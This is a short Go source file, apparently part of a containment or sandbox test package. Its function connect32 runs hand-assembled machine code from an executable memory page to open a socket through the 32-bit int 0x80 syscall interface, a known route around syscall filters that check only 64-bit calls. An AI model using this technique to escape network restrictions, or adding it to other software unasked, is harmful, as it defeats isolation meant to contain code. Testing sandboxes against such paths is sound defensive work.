//go:build linux

package containment

import (
	"unsafe"

	"golang.org/x/sys/unix"
)

// connect32 makes a socket by the calls of the 32-bit architecture, which the
// same processor offers and whose numbers are others.
func connect32() error {
	code := []byte{
		0xb8, 0x67, 0x01, 0x00, 0x00, // mov eax, 359 (socket)
		0xbb, 0x02, 0x00, 0x00, 0x00, // mov ebx, AF_INET
		0xb9, 0x01, 0x00, 0x00, 0x00, // mov ecx, SOCK_STREAM
		0x31, 0xd2, // xor edx, edx
		0xcd, 0x80, // int 0x80
		0x48, 0x98, // cdqe
		0xc3, // ret
	}
	page, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON)
	if err != nil {
		return err
	}
	copy(page, code)
	entry := unsafe.Pointer(&page[0])
	closure := unsafe.Pointer(&entry)
	fd := (*(*func() int)(unsafe.Pointer(&closure)))()
	if fd < 0 {
		return unix.Errno(-fd)
	}
	return connectHost(fd)
}
